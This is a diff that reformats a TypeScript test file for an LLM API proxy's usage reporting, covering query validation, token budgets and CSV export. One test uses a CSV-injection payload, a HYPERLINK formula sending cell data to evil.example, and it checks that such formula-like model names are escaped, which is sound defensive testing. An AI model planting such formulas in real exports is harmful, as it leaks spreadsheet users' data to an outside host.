@@ -108,11 +108,24 @@ describe("usage ledger in memory (no state configured)", () => {
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trim().split("\n");
     expect(lines[0]).toBe("model,requests,prompt_tokens,cached_tokens,completion_tokens,total_tokens,cost_usd");
-    expect(lines.slice(1).map((l) => l.split(",")[0]).sort()).toEqual(["gpt-4.1", "gpt-4o"]);
+    expect(
+      lines
+        .slice(1)
+        .map((l) => l.split(",")[0])
+        .sort(),
+    ).toEqual(["gpt-4.1", "gpt-4o"]);
   });
 
   test("a bad query parameter is a 400 naming it", async () => {
-    for (const [query, param] of [["?by=colour", "by"], ["?since=yesterday", "since"], ["?until=2026-13-01", "until"], ["?format=xml", "format"], ["?since=2026-06-10&until=2026-06-01", "since"], ["?since=2020-01-01&until=2026-06-01", "since"], ["?since=9999d", "since"]] as const) {
+    for (const [query, param] of [
+      ["?by=colour", "by"],
+      ["?since=yesterday", "since"],
+      ["?until=2026-13-01", "until"],
+      ["?format=xml", "format"],
+      ["?since=2026-06-10&until=2026-06-01", "since"],
+      ["?since=2020-01-01&until=2026-06-01", "since"],
+      ["?since=9999d", "since"],
+    ] as const) {
       const response = await report(proxy, query);
       expect(response.status).toBe(400);
       expect(((await response.json()) as { error: { param: string } }).error.param).toBe(param);
@@ -223,7 +236,10 @@ describe("budgets and the SQLite ledger (state.path)", () => {
       // one at a time on new connections (spread over both workers): each sees what the
       // others spent, so the key stops after the call that crossed 40 tokens, not after 2×40
       for (let i = 0; i < 8; i++) {
-        const response = await post(`${proxy.url}/v1/chat/completions`, chatBody(`worker call ${i}`), { authorization: `Bearer ${TIGHT}`, connection: "close" });
+        const response = await post(`${proxy.url}/v1/chat/completions`, chatBody(`worker call ${i}`), {
+          authorization: `Bearer ${TIGHT}`,
+          connection: "close",
+        });
         if (response.status === 200) {
           ok++;
           const usage = ((await response.json()) as { usage: { total_tokens: number } }).usage;
@@ -258,7 +274,16 @@ describe("odd model names in the report", () => {
   beforeAll(async () => {
     const path = join(dir, "chosen.db");
     file = configFile({
-      upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o", [FORMULA]: "nowhere", "-2+3": "nowhere", "@SUM(1)": "nowhere", [ESCAPED]: "nowhere" }, any_model: true }],
+      upstreams: [
+        {
+          name: "east",
+          endpoint: sim.url,
+          api_key: sim.key,
+          api_version: "2024-10-21",
+          deployments: { "gpt-4o": "gpt-4o", [FORMULA]: "nowhere", "-2+3": "nowhere", "@SUM(1)": "nowhere", [ESCAPED]: "nowhere" },
+          any_model: true,
+        },
+      ],
       keys: [
         { name: "ops", key: ADMIN, admin: true },
         { name: "team", key: TEAM },
@@ -278,7 +303,11 @@ describe("odd model names in the report", () => {
 
   test("CSV: a field a spreadsheet would run as a formula starts with an apostrophe, and stays one quoted field", async () => {
     const csv = await (await report(proxy, "?by=model&format=csv")).text();
-    const fields = csv.trim().split("\n").slice(1).map((line) => line.slice(0, line.lastIndexOf(",1,0,0,0,0,0")));
+    const fields = csv
+      .trim()
+      .split("\n")
+      .slice(1)
+      .map((line) => line.slice(0, line.lastIndexOf(",1,0,0,0,0,0")));
     expect(fields.sort()).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`, "'-2+3", "'@SUM(1)", ESCAPED].sort());
     for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@]/);
   });
